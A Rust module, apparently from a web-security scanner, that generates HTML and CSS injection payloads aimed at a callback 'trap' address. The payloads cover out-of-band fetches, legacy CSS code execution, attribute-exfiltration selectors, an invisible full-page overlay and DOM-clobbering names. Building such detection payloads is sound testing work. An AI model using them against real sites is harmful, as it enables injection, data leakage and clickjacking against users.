//! What asks another host for something, styles and names included.

use super::{Mark, Payloads, decimal};

/// `@` stands for an address of the trap.
const REQUESTS: [&str; 54] = [
    "<link rel=stylesheet href=@>",
    "<link rel=\"alternate stylesheet\" title=x href=@>",
    "<link rel=preload as=script href=@>",
    "<link rel=modulepreload href=@>",
    "<link rel=prefetch href=@>",
    "<link rel=preconnect href=@>",
    "<link rel=dns-prefetch href=@>",
    "<link rel=icon href=@>",
    "<link rel=manifest href=@>",
    "<link rel=import href=@>",
    "<link rel=pingback href=@>",
    "<meta http-equiv=refresh content=\"0;url=@\">",
    "<META HTTP-EQUIV=\"refresh\" CONTENT='0; url=\"@\"'>",
    "<meta http-equiv=\"Content-Security-Policy\" content=\"report-uri @\">",
    "<meta http-equiv=Link content=\"<@>; rel=stylesheet\">",
    "<meta http-equiv=set-cookie content=\"a=@\">",
    "<meta name=referrer content=unsafe-url>@",
    "<base href=@><a href=x>x</a>",
    "<base target=_blank href=\"@\">",
    "<iframe src=@></iframe>",
    "<iframe srcdoc=\"<img src=@>\"></iframe>",
    "<iframe sandbox=allow-scripts src=\"@\">",
    "<frameset><frame src=@></frameset>",
    "<object data=@></object>",
    "<object><param name=movie value=@></object>",
    "<object classid=@ codebase=@></object>",
    "<embed src=@ allowscriptaccess=always>",
    "<applet archive=@ code=x></applet>",
    "<portal src=@></portal>",
    "<fencedframe src=@></fencedframe>",
    "<form action=@ id=f><input name=q></form><button form=f autofocus>x</button>",
    "<input type=image src=@>",
    "<body background=@>",
    "<table background=@><td background=@>x</table>",
    "<a href=/ ping=@ id=p>x</a>",
    "<a href=/ attributionsrc=@>x</a>",
    "<img attributionsrc=@>",
    "<svg><image href=@ width=9 height=9 /></svg>",
    "<svg><use href=@#x /></svg>",
    "<svg><feImage href=@ /></svg>",
    "<svg><script href=@ /></svg>",
    "<svg><style>@import '@'</style></svg>",
    "<svg><rect fill='url(@)' /></svg>",
    "<math><mglyph src=@ /></math>",
    "<html manifest=@>",
    "<bgsound src=@>",
    "<layer src=@></layer>",
    "<ilayer src=@></ilayer>",
    "<xml id=x src=@></xml>",
    "<xss style=\"behavior:url(@)\">x</xss>",
    "<?xml-stylesheet href=\"@\" type=\"text/css\"?>",
    "<!DOCTYPE x SYSTEM \"@\">",
    "<!ENTITY x SYSTEM \"@\">&x;",
    "<x xmlns:xi='http://www.w3.org/2001/XInclude'><xi:include href='@'/></x>",
];

/// Pictures and sound, which a text may take from elsewhere.
const MEDIA: [&str; 12] = [
    "<img src=@>",
    "<img src='@' loading=eager fetchpriority=high>",
    "<img srcset=\"@ 1x\">",
    "<img srcset=\"/a.png 1x, @ 2x\" src=/b.png>",
    "<picture><source srcset=@><img src=/a.png></picture>",
    "<video src=@ preload=auto></video>",
    "<video poster=@></video>",
    "<audio src=@ preload=auto></audio>",
    "<video><source src=@></video>",
    "<video><track default kind=metadata src=@></video>",
    "![x](@)",
    "[![x](@ \"y\")](/)",
];

/// `@` stands for a declaration that asks for something.
const STYLES: [&str; 9] = [
    "<p style=\"@\">x</p>",
    "<div STYLE='@'>x</div>",
    "<span style=@>x</span>",
    "<img src=/a.png style=\"@\">",
    "<style>*{@}</style>",
    "<style media=all type=text/css>body{@}",
    "<svg><style>*{@}</style></svg>",
    "<table style=\"@\"><td style=\"@\">x</table>",
    "<a href=/ style=\"@\">x</a>",
];

const DECLARATIONS: [fn(&Mark<'_>) -> String; 12] = [
    |mark| format!("background:url({})", mark.url("style")),
    |mark| format!("background-image:u\\72l('{}')", mark.url("style")),
    |mark| format!("list-style:url('{}')", mark.url("style")),
    |mark| format!("content:url({})", mark.url("style")),
    |mark| format!("cursor:url({}),auto", mark.url("style")),
    |mark| format!("border-image:image-set('{}' 1x)", mark.url("style")),
    |mark| format!("x:expression({})", mark.run()),
    |mark| format!("x:exp/**/ression({})", mark.run()),
    |mark| format!("-moz-binding:url({}#x)", mark.url("style")),
    |mark| format!("behavior:url(javascript:{})", mark.run()),
    |_| "position:fixed;inset:0;z-index:99;opacity:.01".to_owned(),
    |mark| format!("--x:{};background:url({})", decimal(&mark.run()), mark.url("style")),
];

const SHEETS: [&str; 8] = [
    "<style>@import '@';</style>",
    "<style>@import url(@);</style>",
    "<style>@\\69mport \"@\";</style>",
    "<style><!--@import '@'--></style>",
    "<style>@font-face{font-family:x;src:url(@)}*{font-family:x}</style>",
    "<style>input[value^=a]{background:url(@)}</style>",
    "<style>@namespace url(@);</style>",
    "<style>@media all{@import url(@)}</style><style>*{x:</style>",
];

const NAMES: [&str; 32] = [
    "__proto__",
    "action",
    "addEventListener",
    "alert",
    "attributes",
    "body",
    "childNodes",
    "className",
    "comment-1",
    "constructor",
    "cookie",
    "createElement",
    "currentScript",
    "defaultView",
    "documentElement",
    "domain",
    "firstChild",
    "forms",
    "getElementById",
    "head",
    "history",
    "innerHTML",
    "location",
    "method",
    "nodeName",
    "ownerDocument",
    "parentNode",
    "q-comments",
    "q-main",
    "querySelector",
    "removeChild",
    "self",
];

pub(super) fn add(payloads: &mut Payloads) {
    for template in REQUESTS {
        payloads.add("request", |mark| template.replace('@', &mark.url("request")));
    }
    for template in MEDIA {
        payloads.add("media", |mark| template.replace('@', &mark.url("media")));
    }
    for template in STYLES {
        for declaration in DECLARATIONS {
            payloads.add("style", |mark| template.replace('@', &declaration(mark)));
        }
    }
    for template in SHEETS {
        payloads.add("style", |mark| sheet(template, mark));
    }
    for (n, name) in NAMES.into_iter().enumerate() {
        let templates = [
            "<a id=@ name=@ href=/>x</a>",
            "<img id=@ name=@ src=/a.png>",
            "<form id=@ name=@><input name=@ id=@></form>",
            "<p id=\"@\">x</p><p id=\"@\">y</p>",
            "<embed name=@><object name=@></object><iframe name=@></iframe>",
            "<details id=@ name=@><summary id=@>x</summary></details>",
        ];
        for (_, template) in templates.into_iter().enumerate().filter(|(t, _)| (n + t) % 2 == 0) {
            payloads.add("name", |_| template.replace('@', name));
        }
    }
}

/// In a sheet `@` also begins a rule: only the quoted and bracketed ones are addresses.
fn sheet(template: &str, mark: &Mark<'_>) -> String {
    let url = mark.url("style");
    template
        .replace("'@'", &format!("'{url}'"))
        .replace("\"@\"", &format!("\"{url}\""))
        .replace("(@)", &format!("({url})"))
}
